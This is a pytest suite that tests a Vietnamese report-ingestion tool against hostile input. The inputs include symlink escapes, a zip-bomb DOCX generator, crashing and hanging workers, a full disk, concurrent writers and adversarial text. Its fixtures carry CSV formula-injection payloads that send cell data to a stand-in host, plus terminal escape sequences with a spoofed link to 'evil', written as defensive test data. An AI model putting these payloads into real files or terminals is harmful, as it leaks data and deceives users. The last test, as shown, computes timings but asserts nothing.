"""Hostile input (issue 12): nothing outside the corpus is lost, leaked or hangs the batch.

Each case: the batch finishes, the exit code, the failed row's reason, nothing else in the
database changed, nothing outside the given folder read."""
from __future__ import annotations

import os
import sqlite3

import pytest

from pipeline import cli
from tests.test_ingest import GOOD_REPORT


def _good_folder(tmp_path, name="in"):
    folder = tmp_path / name
    folder.mkdir()
    (folder / "bc.txt").write_text(GOOD_REPORT, encoding="utf-8")
    return folder


def _rows(db_path, sql):
    conn = sqlite3.connect(db_path)
    try:
        return conn.execute(sql).fetchall()
    finally:
        conn.close()


# -- 1. --db of another application, or of a newer schema ---------------------------------

def test_db_of_another_application_is_refused_untouched(tmp_path, capsys):
    other = tmp_path / "app.db"
    conn = sqlite3.connect(other)
    conn.execute("create table customers (id integer primary key, name text)")
    conn.execute("create table documents (id integer primary key, body text)")
    conn.execute("insert into customers values (1, 'An')")
    conn.commit()
    conn.close()
    before = other.read_bytes()
    folder = _good_folder(tmp_path)
    assert cli.main(["ingest", str(folder), "--db", str(other), "-q"]) == 3
    err = capsys.readouterr().err
    assert "not a baocao corpus" in err and "Traceback" not in err
    assert other.read_bytes() == before
    assert _rows(other, "select * from customers") == [(1, "An")]


def test_db_of_a_newer_schema_is_refused_untouched(tmp_path, capsys, ingest_into):
    from schemas.tables import SCHEMA_VERSION

    folder = _good_folder(tmp_path)
    ingest_into(folder)
    db_path = tmp_path / "corpus.db"
    conn = sqlite3.connect(db_path)
    conn.execute(f"pragma user_version = {SCHEMA_VERSION + 1}")
    conn.commit()
    conn.close()
    (folder / "moi.txt").write_text(GOOD_REPORT.replace("xã", "huyện"), encoding="utf-8")
    assert cli.main(["ingest", str(folder), "--db", str(db_path), "-q"]) == 3
    assert "newer baocao" in capsys.readouterr().err
    assert _rows(db_path, "select count(*) from documents") == [(1,)]
    assert _rows(db_path, "select count(*) from blocks")[0][0] > 0


def test_own_database_carries_application_id_and_old_corpus_is_adopted(tmp_path, ingest_into):
    from pipeline.store import db as store

    folder = _good_folder(tmp_path)
    ingest_into(folder)
    db_path = tmp_path / "corpus.db"
    assert _rows(db_path, "pragma application_id") == [(store.APPLICATION_ID,)]
    # a corpus written before application_id existed (only our tables) is still ours
    conn = sqlite3.connect(db_path)
    conn.execute("pragma application_id = 0")
    conn.commit()
    conn.close()
    summary, db = ingest_into(folder)
    assert [o.status for o in summary.outcomes] == ["unchanged"]
    assert _rows(db_path, "pragma application_id") == [(store.APPLICATION_ID,)]


def test_not_a_database_file_is_a_message(tmp_path, capsys):
    bogus = tmp_path / "notes.db"
    bogus.write_text("ghi chú, không phải SQLite\n" * 200, encoding="utf-8")
    before = bogus.read_bytes()
    folder = _good_folder(tmp_path)
    assert cli.main(["ingest", str(folder), "--db", str(bogus), "-q"]) == 3
    assert "not a baocao corpus" in capsys.readouterr().err
    assert bogus.read_bytes() == before


# -- 2. an output path that is the database or an input ----------------------------------

def test_output_never_overwrites_the_database_or_an_input(tmp_path, capsys, ingest_into):
    folder = _good_folder(tmp_path)
    ingest_into(folder)
    db_path = str(tmp_path / "corpus.db")
    before = _rows(db_path, "select id, sha256, text from documents")
    size = os.path.getsize(db_path)
    link = tmp_path / "link-to-db.html"
    os.symlink(db_path, link)
    for target in (db_path, db_path + "-wal", str(link)):
        code = cli.main(["audit", "--db", db_path, "--format", "html", "--output", target])
        assert code == 2, target
        assert "refusing to write output" in capsys.readouterr().err
    assert os.path.getsize(db_path) == size
    assert _rows(db_path, "select id, sha256, text from documents") == before
    report = str(folder / "bc.txt")
    assert cli.main(["show", "bc.txt", "--db", db_path, "--html", "--output", report]) == 2
    assert "an input file" in capsys.readouterr().err
    assert (folder / "bc.txt").read_text(encoding="utf-8") == GOOD_REPORT
    # a normal output is written whole, through a temporary file that does not linger
    out = tmp_path / "out" / "audit.html"
    out.parent.mkdir()
    assert cli.main(["audit", "--db", db_path, "--format", "html", "--output", str(out)]) == 0
    assert out.read_text(encoding="utf-8").lstrip().startswith("<!DOCTYPE html")
    assert os.listdir(out.parent) == ["audit.html"]


# -- 3. links out of the folder, FIFOs, sockets ------------------------------------------

SECRET = "MẬT KHẨU QUẢN TRỊ: bí-mật-tuyệt-đối-4711"


def _ingest_in_thread(fn, timeout=60):
    import threading

    result = {}
    t = threading.Thread(target=lambda: result.update(value=fn()), daemon=True)
    t.start()
    t.join(timeout)
    assert not t.is_alive(), "the batch hangs"
    return result["value"]


def _linked_folder(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "shadow").write_text(SECRET, encoding="utf-8")
    (outside / "mat.txt").write_text(SECRET, encoding="utf-8")
    folder = _good_folder(tmp_path)
    os.symlink(outside / "shadow", folder / "shadow.txt")
    os.symlink(outside, folder / "thu-muc-ngoai")
    os.symlink(folder / "bc.txt", folder / "ban-sao.txt")  # inside the folder
    os.mkfifo(folder / "ong.txt")
    import socket

    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(folder / "o-cam.txt"))
    return folder, sock


def _assert_no_secret(db_path):
    for table, col in (("documents", "text"), ("documents", "path"), ("blocks", "kind")):
        for (value,) in _rows(db_path, f"select {col} from {table}"):
            assert "bí-mật" not in (value or "") and "bi-mat" not in (value or "")
    import sqlite3

    from pipeline.store.search import search
    conn = sqlite3.connect(db_path)
    try:
        assert not search(conn, "bi mat")  # nor in the search index
    finally:
        conn.close()


def test_links_are_not_followed_and_special_files_are_skipped(tmp_path, ingest_into):
    folder, sock = _linked_folder(tmp_path)
    try:
        summary, db = _ingest_in_thread(lambda: ingest_into(folder))
    finally:
        sock.close()
    by_name = {os.path.basename(o.path): o for o in summary.outcomes}
    assert by_name["bc.txt"].status == "ingested"
    assert "symbolic link not followed" in by_name["shadow.txt"].reason
    assert "symbolic link not followed" in by_name["ban-sao.txt"].reason
    assert "symbolic link not followed" in by_name["thu-muc-ngoai"].reason
    assert "named pipe (FIFO)" in by_name["ong.txt"].reason
    assert "socket" in by_name["o-cam.txt"].reason
    assert "mat.txt" not in by_name
    _assert_no_secret(tmp_path / "corpus.db")


def test_follow_links_stays_inside_the_folder(tmp_path, capsys):
    folder, sock = _linked_folder(tmp_path)
    db_path = tmp_path / "c.db"
    try:
        code = _ingest_in_thread(lambda: cli.main(
            ["ingest", str(folder), "--db", str(db_path), "-q", "--follow-links"]))
    finally:
        sock.close()
    assert code == 4
    out = capsys.readouterr().out
    assert "shadow.txt: symbolic link to outside the folder" in out
    assert "thu-muc-ngoai: symbolic link to outside the folder" in out
    statuses = dict(_rows(db_path, "select path, status from documents"))
    # bc.txt and the link to it inside the folder hold one content: stored once
    stored = [statuses.get(str(folder / n)) for n in ("bc.txt", "ban-sao.txt")]
    assert stored.count("ok") == 1 and all(s in ("ok", None) for s in stored)
    _assert_no_secret(db_path)


def test_unreadable_folder_is_reported_failed(tmp_path, ingest_into, monkeypatch):
    folder = _good_folder(tmp_path)
    locked = folder / "khoa"
    locked.mkdir()
    (locked / "x.txt").write_text(GOOD_REPORT, encoding="utf-8")
    real_scandir = os.scandir

    def scandir(path="."):  # root ignores chmod 000: refuse the way the kernel would
        if os.fspath(path) == str(locked):
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    summary, db = ingest_into(folder)
    by_name = {os.path.basename(o.path): o for o in summary.outcomes}
    assert by_name["bc.txt"].status == "ingested"
    assert by_name["khoa"].status == "failed"
    assert by_name["khoa"].reason == "permission denied (folder not readable)"
    assert db["documents"].count == 2


# -- 4. a batch killed during the corpus-wide steps --------------------------------------

def test_finalizers_killed_are_finished_by_the_next_run(tmp_path, ingest_into, monkeypatch):
    import pipeline.store.search as search

    folder = _good_folder(tmp_path)
    real_finalize = search.finalize

    def killed(db, document_ids=None):
        raise KeyboardInterrupt  # stands for kill -9 between the documents and the index

    monkeypatch.setattr(search, "finalize", killed)
    with pytest.raises(KeyboardInterrupt):
        ingest_into(folder)
    db_path = tmp_path / "corpus.db"
    assert _rows(db_path, "select count(*) from documents") == [(1,)]
    assert _rows(db_path, "select name from pending_finalizers where name like '%search%'")
    monkeypatch.setattr(search, "finalize", real_finalize)
    summary, db = ingest_into(folder)
    assert [o.status for o in summary.outcomes] == ["unchanged"]
    assert db["search_blocks"].count == db["blocks"].count > 0
    assert _rows(db_path, "select count(*) from pending_finalizers") == [(0,)]
    assert cli.main(["search", "hồ sơ", "--db", str(db_path)]) == 0


def test_unchanged_batch_without_pending_work_runs_no_finalizer(tmp_path, ingest_into, monkeypatch):
    import pipeline.store.search as search

    folder = _good_folder(tmp_path)
    ingest_into(folder)
    calls = []
    monkeypatch.setattr(search, "finalize", lambda db, document_ids=None: calls.append(1))
    ingest_into(folder)
    assert calls == []


# -- 5. zip bomb, a worker that dies, a file that never ends -----------------------------

def _zip_bomb(path, mb=128):
    import zipfile

    content_types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>')
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
        '</Relationships>')
    para = b'<w:p><w:r><w:t>' + b"A" * 900 + b"</w:t></w:r></w:p>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", content_types)
        zf.writestr("_rels/.rels", rels)
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                     b'wordprocessingml/2006/main"><w:body>')
            chunk = para * 1000
            for _ in range(mb * 1_000_000 // len(chunk) + 1):
                fh.write(chunk)
            fh.write(b"</w:body></w:document>")


def test_zip_bomb_docx_is_refused_before_parsing(tmp_path, capsys):
    folder = _good_folder(tmp_path)
    _zip_bomb(folder / "bom.docx")
    assert (folder / "bom.docx").stat().st_size < 2_000_000
    db_path = tmp_path / "c.db"
    assert cli.main(["ingest", str(folder), "--db", str(db_path), "-q"]) == 4
    out = capsys.readouterr().out
    assert "bom.docx: DOCX part too large when uncompressed (word/document.xml" in out
    statuses = {os.path.basename(p): (s, e) for p, s, e in
                _rows(db_path, "select path, status, error from documents")}
    assert statuses["bc.txt"][0] == "ok"
    assert statuses["bom.docx"][0] == "failed" and "zip bomb" in statuses["bom.docx"][1]


def _hostile_extract(path):
    import signal
    import time

    from extractors import extract

    name = os.path.basename(path)
    if name == "giet.txt":
        os.kill(os.getpid(), signal.SIGKILL)  # the worker dies (as under the OOM killer)
    if name == "ngon-bo-nho.txt":
        hog = bytearray(8 * 1024 ** 3)  # over the address-space limit
        return hog
    if name == "treo.txt":
        time.sleep(3600)
    if name == "quay.txt":
        while True:  # pure CPU, never returns
            pass
    return extract(path)


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_worker_that_dies_or_hangs_fails_its_file_and_the_batch_goes_on(tmp_path, ingest_into,
                                                                           monkeypatch, jobs):
    import pipeline.ingest as ingest_module

    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(4):
        (folder / f"a{i}.txt").write_text(GOOD_REPORT.replace("xã", f"xã {i}"), encoding="utf-8")
    for name in ("giet.txt", "ngon-bo-nho.txt", "treo.txt", "quay.txt"):
        (folder / name).write_text(GOOD_REPORT.replace("xã", name), encoding="utf-8")
    monkeypatch.setattr(ingest_module, "extract", _hostile_extract)
    limits = ingest_module.Limits(timeout_s=2, max_memory_mb=512, analysis_timeout_s=300)
    summary, db = ingest_into(folder, jobs=jobs, limits=limits)
    by_name = {os.path.basename(o.path): o for o in summary.outcomes}
    assert len(by_name) == 8
    for i in range(4):
        assert by_name[f"a{i}.txt"].status == "ingested", by_name[f"a{i}.txt"]
    assert "worker killed" in by_name["giet.txt"].reason
    assert "out of memory" in by_name["ngon-bo-nho.txt"].reason
    assert "time limit exceeded (extraction over 2 s)" in by_name["treo.txt"].reason
    assert "time limit exceeded (extraction over 2 s)" in by_name["quay.txt"].reason
    assert db["documents"].count == 8
    assert sorted(r["status"] for r in db["documents"].rows) == ["failed"] * 4 + ["ok"] * 4


# -- 6. a huge text file ------------------------------------------------------------------

def test_huge_text_file_fails_with_its_size(tmp_path, capsys):
    folder = _good_folder(tmp_path)
    with open(folder / "khong-lo.txt", "wb") as fh:
        fh.truncate(100_000_000)  # sparse: 100 MB on paper, nothing on disk
    (folder / "vua.txt").write_text("Báo cáo. " * 200_000, encoding="utf-8")  # 2.2 MB
    db_path = tmp_path / "c.db"
    assert cli.main(["ingest", str(folder), "--db", str(db_path), "-q"]) == 4
    assert "khong-lo.txt: too large (100.0 MB > 50 MB of text)" in capsys.readouterr().out
    # configurable
    db2 = tmp_path / "d.db"
    assert cli.main(["ingest", str(folder / "vua.txt"), "--db", str(db2), "-q",
                     "--max-text-mb", "1"]) == 4
    assert "vua.txt: too large (2.2 MB > 1 MB of text)" in capsys.readouterr().out


# -- 9. a file name that is not UTF-8 -----------------------------------------------------

def test_file_name_not_utf8_is_stored_escaped_and_the_batch_goes_on(tmp_path, capsys):
    folder = _good_folder(tmp_path)
    raw = os.fsencode(folder) + b"/b\xe1o-c\xe1o.txt"  # Latin-1 bytes: not UTF-8
    with open(raw, "wb") as fh:
        fh.write(GOOD_REPORT.replace("xã", "thị trấn").encode("utf-8"))
    open(os.fsencode(folder) + b"/r\xf5ng.txt", "wb").close()
    db_path = tmp_path / "c.db"
    assert cli.main(["ingest", str(folder), "--db", str(db_path), "-q"]) == 4
    out = capsys.readouterr().out
    assert "r\\xf5ng.txt: empty file" in out
    rows = dict(_rows(db_path, "select path, status from documents"))
    assert rows[str(folder / "b\\xe1o-c\\xe1o.txt")] == "ok"
    assert rows[str(folder / "bc.txt")] == "ok"
    assert cli.main(["ingest", str(folder), "--db", str(db_path), "-q"]) == 4
    assert "2 unchanged" in capsys.readouterr().out
    assert _rows(db_path, "select count(*) from documents") == [(3,)]


# -- 8. disk full ---------------------------------------------------------------------------

def _many_reports(folder, n):
    folder.mkdir()
    for i in range(n):
        body = "\n\n".join(f"Đoạn {j}: xã {i} tiếp nhận {i * 7 + j} hồ sơ, đạt {j % 100}%."
                           for j in range(60))
        (folder / f"bc{i:03d}.txt").write_text(f"BÁO CÁO số {i}/BC-UBND\n\n{body}\n",
                                               encoding="utf-8")


@pytest.fixture
def tiny_disk(tmp_path):
    """A 512 KB tmpfs (we are root in CI); without mount rights, a simulated full disk."""
    import subprocess

    mnt = tmp_path / "tiny"
    mnt.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", str(mnt)],
                             capture_output=True).returncode == 0
    yield mnt, mounted
    if mounted:
        subprocess.run(["umount", "-l", str(mnt)], check=False)


def test_disk_full_stops_cleanly_with_a_message(tmp_path, capsys, tiny_disk, monkeypatch):
    from pipeline.store import db as store

    mnt, mounted = tiny_disk
    folder = tmp_path / "in"
    _many_reports(folder, 120)
    db_path = mnt / "c.db"
    if not mounted:  # simulate: the 30th document's write finds the disk full
        real_insert, calls = store.insert_rows, []

        def insert_rows(db, table, rows):
            if table == "documents":
                calls.append(1)
                if len(calls) >= 30:
                    raise sqlite3.OperationalError("database or disk is full")
            return real_insert(db, table, rows)

        monkeypatch.setattr(store, "insert_rows", insert_rows)
    code = cli.main(["ingest", str(folder), "--db", str(db_path), "-q"])
    err = capsys.readouterr().err
    assert code == 3
    assert "disk full" in err and "Traceback" not in err
    # what was committed is whole: each stored document has its blocks
    conn = sqlite3.connect(db_path)
    assert conn.execute("pragma integrity_check").fetchone() == ("ok",)
    docs = conn.execute("select count(*) from documents").fetchone()[0]
    assert 0 < docs < 120
    assert conn.execute("select count(*) from documents d where not exists "
                        "(select 1 from blocks b where b.document_id = d.id)").fetchone() == (0,)
    conn.close()


# -- 10. another process writing -------------------------------------------------------------

def test_ingest_waits_for_another_writer_with_a_message(tmp_path, capsys, ingest_into):
    import threading
    import time

    first = _good_folder(tmp_path, "first")
    ingest_into(first)
    db_path = tmp_path / "corpus.db"
    second = tmp_path / "second"
    second.mkdir()
    (second / "moi.txt").write_text(GOOD_REPORT.replace("xã", "phường"), encoding="utf-8")
    holder = sqlite3.connect(db_path, isolation_level=None, check_same_thread=False)
    holder.execute("BEGIN IMMEDIATE")  # another writer holds the lock for 7 s
    threading.Timer(7.0, lambda: holder.execute("COMMIT")).start()
    t0 = time.monotonic()
    code = cli.main(["ingest", str(second), "--db", str(db_path), "-q"])
    captured = capsys.readouterr()
    holder.close()
    assert code == 0, captured
    assert time.monotonic() - t0 >= 6.5
    assert "being written by another process; waiting" in captured.err
    assert "Traceback" not in captured.err and "locked" not in captured.out
    assert _rows(db_path, "select count(*) from documents where status = 'ok'") == [(2,)]


CONCURRENT_SCRIPT = """
import sys
from pipeline import cli
sys.exit(cli.main(sys.argv[1:]))
"""


@pytest.mark.slow
def test_two_ingests_and_a_query_at_once(tmp_path):
    """Two ingests started together on a new database and a query meanwhile: both finish,
    nothing is lost, no traceback."""
    import subprocess
    import sys
    import time

    from tests.conftest import ROOT

    a, b = tmp_path / "a", tmp_path / "b"
    _many_reports(a, 25)
    b.mkdir()
    for p in sorted(a.iterdir())[:10]:  # overlapping content under other names
        (b / ("sao-" + p.name)).write_bytes(p.read_bytes())
    for i in range(15):
        (b / f"rieng{i:02d}.txt").write_text(GOOD_REPORT.replace("xã", f"xã số {i}"),
                                             encoding="utf-8")
    db_path = tmp_path / "new.db"
    cmd = [sys.executable, "-c", CONCURRENT_SCRIPT]
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    procs = [subprocess.Popen(cmd + ["ingest", str(d), "--db", str(db_path), "-q"], cwd=ROOT,
                              env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for d in (a, b)]
    queries = []
    while any(p.poll() is None for p in procs):
        time.sleep(1.0)
        if db_path.exists():
            q = subprocess.run(cmd + ["search", "hồ sơ", "--db", str(db_path), "--limit", "3"],
                               cwd=ROOT, env=env, capture_output=True, text=True)
            queries.append(q)
    outs = [p.communicate() for p in procs]
    for p, (out, err) in zip(procs, outs):
        assert p.returncode == 0, (out, err)
        assert "Traceback" not in err
    for q in queries:
        assert "Traceback" not in q.stderr, q.stderr
    paths = {r[0] for r in _rows(db_path, "select path from documents where status = 'ok'")}
    originals = {str(p) for p in a.iterdir()} | {str(p) for p in b.iterdir() if "rieng" in p.name}
    assert originals <= paths
    assert _rows(db_path, "pragma integrity_check") == [("ok",)]
    assert _rows(db_path, "select count(*) from pending_finalizers") == [(0,)]
    n_blocks = _rows(db_path, "select count(*) from blocks")[0][0]
    assert _rows(db_path, "select count(*) from search_blocks")[0][0] == n_blocks


# -- 11. near-empty PDF, superscript runs -----------------------------------------------------

def _pdf_pages(path, pages, text_per_page=""):
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path))
    for i in range(pages):
        if text_per_page:  # a few characters somewhere mid-page, not a running footer
            c.drawString(100 + (i * 37) % 300, 200 + (i * 53) % 400, text_per_page.format(i=i + 1))
        c.showPage()
    c.save()


def test_documents_without_text_are_not_stored_ok(tmp_path, ingest_into):
    import docx

    folder = _good_folder(tmp_path)
    _pdf_pages(folder / "trang-trang.pdf", 60)
    _pdf_pages(folder / "chi-so-trang.pdf", 60, "ô {i}")
    d = docx.Document()
    d.add_paragraph("   ")
    d.save(folder / "rong.docx")
    summary, db = ingest_into(folder)
    by_name = {os.path.basename(o.path): o for o in summary.outcomes}
    for name in ("trang-trang.pdf", "chi-so-trang.pdf"):
        assert by_name[name].status in ("failed", "partial") and by_name[name].reason, name
    assert by_name["rong.docx"].status == "failed"
    assert by_name["rong.docx"].reason == "no text extracted (scanned images without a text layer?)"
    rows = {os.path.basename(p): s for p, s in _rows(tmp_path / "corpus.db",
                                                      "select path, status from documents")}
    assert rows["bc.txt"] == "ok" and rows["rong.docx"] == "failed"
    assert _rows(tmp_path / "corpus.db", "select count(*) from documents where status = 'ok'"
                 " and length(trim(text)) < 20") == [(0,)]


def test_little_text_on_many_pages_is_partial():
    from pipeline.ingest import text_problem
    from schemas.records import ExtractedDocument

    doc = ExtractedDocument(path="x.pdf", format="pdf", text="ô 1\n\nô 2", page_count=1000)
    assert text_problem(doc) is None
    assert doc.warnings == ["little text: 4 characters on 1000 pages (mostly scanned or blank pages?)"]
    empty = ExtractedDocument(path="x.pdf", format="pdf", text=" \n ", page_count=1200)
    assert text_problem(empty) == "no text extracted on 1200 pages (scanned images without a text layer?)"


@pytest.mark.slow
def test_thousand_blank_pages_fail(tmp_path, ingest_into):
    folder = tmp_path / "in"
    folder.mkdir()
    _pdf_pages(folder / "nghin-trang.pdf", 1200)
    summary, _ = ingest_into(folder)
    assert summary.outcomes[0].status == "failed"
    assert "no text" in summary.outcomes[0].reason


def test_a_line_of_superscript_digits_is_read(tmp_path, ingest_into):
    folder = _good_folder(tmp_path)
    (folder / "mu.txt").write_text(
        "Báo cáo số 3/BC-UBND.\n\nChỉ số" + "⁰¹²³⁴⁵⁶⁷⁸⁹" * 500 + " cuối.\n\n"
        + "¹" * 5000 + " dòng lạ\n", encoding="utf-8")
    summary, db = ingest_into(folder)
    by_name = {os.path.basename(o.path): o for o in summary.outcomes}
    assert by_name["mu.txt"].status in ("ingested", "partial"), by_name["mu.txt"]
    text = next(db.query("select text from documents where path like '%mu.txt'"))["text"]
    assert text.count("⁵") >= 500


# -- 12. hostile text in outputs ------------------------------------------------------------

MARKUP_REPORT = """BÁO CÁO
Kết quả công tác năm 2024

I. KẾT QUẢ [/x] ĐẠT ĐƯỢC

1. UBND xã đã tiếp nhận 1.250 hồ sơ [xem phụ lục 1], giải quyết đúng hạn 1.200/1.250 hồ sơ, đạt 96%.

2. Đề nghị Sở Nội vụ xem xét [/x] hồ sơ [bold]tồn đọng[/bold] của xã.

3. Kiến nghị UBND huyện: =HYPERLINK("http://x.example/?q="&A1) bổ sung kinh phí.

II. =HYPERLINK("HTTP://X.EXAMPLE") KIẾN NGHỊ

1. @SUM(1+1) Đề nghị UBND huyện bổ sung kinh phí cho xã.
"""


@pytest.fixture
def hostile_db(tmp_path, ingest_into):
    folder = tmp_path / "in [red]x"
    folder.mkdir()
    (folder / "bc [bold]x.txt").write_text(MARKUP_REPORT, encoding="utf-8")
    summary, _ = ingest_into(folder)
    assert summary.outcomes[0].status == "ingested", summary.outcomes[0]
    db_path = tmp_path / "corpus.db"
    # an extractor that lets escape sequences through (a PDF's ToUnicode map can): the
    # output layer must not pass them to the terminal
    conn = sqlite3.connect(db_path)
    conn.execute("update sections set heading = heading || ?", ["\x1b[31m ĐỎ \x1b[0m\x1b]0;pwned\x07"])
    conn.execute("update documents set title = ?", ["Tiêu đề \x1b]8;;http://evil\x1b\\bấm\x1b]8;;\x1b\\ \x9b2J"])
    conn.execute("update findings set text = text || ?", ["\x1b[2J\x1b[H"])
    conn.commit()
    conn.close()
    return db_path, folder


def _run(capsys, *argv):
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_markup_in_text_paths_and_queries_is_printed_as_is(hostile_db, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "400")  # one line per row
    db_path, folder = hostile_db
    db = str(db_path)
    code, out, err = _run(capsys, "search", "phụ lục", "--db", db)
    assert code == 0 and "[xem phụ lục" in out, out
    code, out, err = _run(capsys, "search", "[/x]", "--db", db)
    assert "Traceback" not in err and "MarkupError" not in err and code in (0, 1)
    assert "search: [/x]" in out
    code, out, err = _run(capsys, "findings", "--db", db)
    assert code == 0 and "[bold]tồn đọng[/bold]" in out and "KẾT QUẢ [/x] ĐẠT" in out
    code, out, err = _run(capsys, "findings", "[/x]", "--db", db)
    assert code == 3 and "no document matches '[/x]'" in err and "Traceback" not in err
    code, out, err = _run(capsys, "ingest", str(folder), "--db", db, "-q")
    assert code == 0 and "Traceback" not in err
    (folder / "rong [red].txt").write_bytes(b"")
    code, out, err = _run(capsys, "ingest", str(folder), "--db", db, "-q")
    assert code == 4 and "rong [red].txt: empty file" in out and "in [red]x" in out


def test_terminal_escapes_are_stripped_on_output(hostile_db, capsys):
    db_path, _ = hostile_db
    db = str(db_path)
    for argv in (["show", "1"], ["findings"], ["search", "hồ sơ"], ["audit", "--all"],
                 ["figures"], ["cites", "1"], ["show", "1", "--format", "json"]):
        code, out, err = _run(capsys, *argv, "--db", db)
        assert "Traceback" not in err, argv
        assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out, (argv, out[:300])
    code, out, err = _run(capsys, "show", "1", "--db", db)
    assert "ĐỎ" in out and "pwned" not in out and "bấm" in out


def test_csv_cells_cannot_start_a_formula(hostile_db, capsys):
    import csv
    import io

    db_path, _ = hostile_db
    code, out, err = _run(capsys, "findings", "--db", str(db_path), "--format", "csv")
    assert code == 0
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'@SUM(1+1) Đề nghị UBND huyện bổ sung kinh phí cho xã." in cells
    assert '\'=HYPERLINK("HTTP://X.EXAMPLE") KIẾN NGHỊ' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
    from pipeline.commands.output import csv_safe

    assert csv_safe('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert csv_safe("-12,5") == "-12,5" and csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe("+84 912") == "'+84 912" and csv_safe(-3) == -3


def test_bad_arguments_are_messages_not_tracebacks(hostile_db, capsys, tmp_path):
    db_path, _ = hostile_db
    db = str(db_path)
    for argv, needle in ((["show", "²"], "no document matches '²'"),
                         (["show", ""], "no document given"),
                         (["show", "%"], "no document matches '%'"),
                         (["show", "%_%"], "no document matches '%_%'"),
                         (["show", "99999999999999999999"], "no document matches"),
                         (["findings", "%"], "no document matches '%'")):
        code, out, err = _run(capsys, *argv, "--db", db)
        assert code == 3 and needle in err and "Traceback" not in err, (argv, err)
    with pytest.raises(SystemExit) as exc:
        cli.main(["search", "hồ sơ", "--limit", "99999999999999999999", "--db", db])
    assert exc.value.code == 2
    assert "expected a whole number" in capsys.readouterr().err
    # not a database, a read-only database
    junk = tmp_path / "junk.db"
    junk.write_bytes(b"\x00garbage" * 500)
    code, out, err = _run(capsys, "search", "x", "--db", str(junk))
    assert code == 3 and "not a baocao corpus" in err
    os.chmod(db_path, 0o444)
    os.chmod(db_path.parent, 0o555)
    try:
        folder = tmp_path / "more"
        folder.mkdir()
        (folder / "c.txt").write_text(GOOD_REPORT, encoding="utf-8")
        code, out, err = _run(capsys, "ingest", str(folder), "--db", db, "-q")
        assert "Traceback" not in err
        if os.geteuid() != 0:  # root writes regardless of mode bits
            assert code == 3 and "readonly" in err
        code, out, err = _run(capsys, "search", "hồ sơ", "--db", db)
        assert code == 0 and "Traceback" not in err
    finally:
        os.chmod(db_path.parent, 0o755)
        os.chmod(db_path, 0o644)


def test_read_only_database_is_a_message(tmp_path, capsys, ingest_into, monkeypatch):
    """Root ignores mode bits: a database opened read-only by SQLite itself stands in."""
    from pipeline.store import db as store

    folder = _good_folder(tmp_path)
    ingest_into(folder)
    db_path = tmp_path / "corpus.db"
    real_connect = sqlite3.connect

    def read_only(path, *a, **kw):
        if str(path) == str(db_path):
            kw["uri"] = True
            return real_connect(f"file:{path}?mode=ro", *a, **kw)
        return real_connect(path, *a, **kw)

    monkeypatch.setattr(store.sqlite3, "connect", read_only)
    (folder / "moi.txt").write_text(GOOD_REPORT.replace("xã", "phường"), encoding="utf-8")
    code, out, err = _run(capsys, "ingest", str(folder), "--db", str(db_path), "-q")
    assert code == 3 and "readonly" in err and "Traceback" not in err
    assert err.count("\n") == 1


# -- 7. adversarial text: every rule linear ---------------------------------------------------

_HEAD = "BÁO CÁO\nKết quả công tác\n\nI. KẾT QUẢ\n\n"
ADVERSARIAL = {
    "slash chain (figures)": lambda n: _HEAD + "Tỷ lệ đạt " + "/".join(str(i % 97 + 1) for i in range(n)) + " hồ sơ.\n",
    "nested parentheses (entities)": lambda n: _HEAD + "UBND xã " + "(" * n + "Sở Nội vụ" + ")" * n + " đã làm.\n",
    "dotted leaders (tokenizer)": lambda n: _HEAD + "Mục lục " + "…" * n + " 5\n",
    "letter run in the header (structure)": lambda n: "A" * n + "\n\nBÁO CÁO\n\nI. KẾT QUẢ\n\nĐạt 5 hồ sơ.\n",
    "long header line (structure)": lambda n: "ỦY BAN NHÂN DÂN " + "XÃ TÂN " * (n // 7) + "\n\nSố: 12/BC-UBND\n\nĐạt 5.\n",
}


def _analysis_seconds(tmp_path, text):
    import time

    from extractors.txt import extract_txt
    from pipeline.ingest import analyse

    path = tmp_path / "x.txt"
    path.write_text(text, encoding="utf-8")
    doc = extract_txt(path)
    blocks = [dict(id=i + 1, document_id=1, kind=b.kind, start=b.start, end=b.end, page=b.page,
                   style=b.style, level=b.level) for i, b in enumerate(doc.blocks)]
    ids: dict = {}

    def new_id(table):
        ids[table] = ids.get(table, 0) + 1
        return ids[table]

    t0 = time.perf_counter()
    analyse(1, {"text": doc.text, "format": "txt"}, blocks, [], [], [], new_id)
    return time.perf_counter() - t0


@pytest.mark.parametrize("name", list(ADVERSARIAL))
def test_adversarial_text_scales_linearly(tmp_path, name):
    make = ADVERSARIAL[name]
    _analysis_seconds(tmp_path, make(200))  # warm up: models, caches
    times = {k: min(_analysis_seconds(tmp_path, make(1000 * k)) for _ in range(2)) for k in (1, 8)}
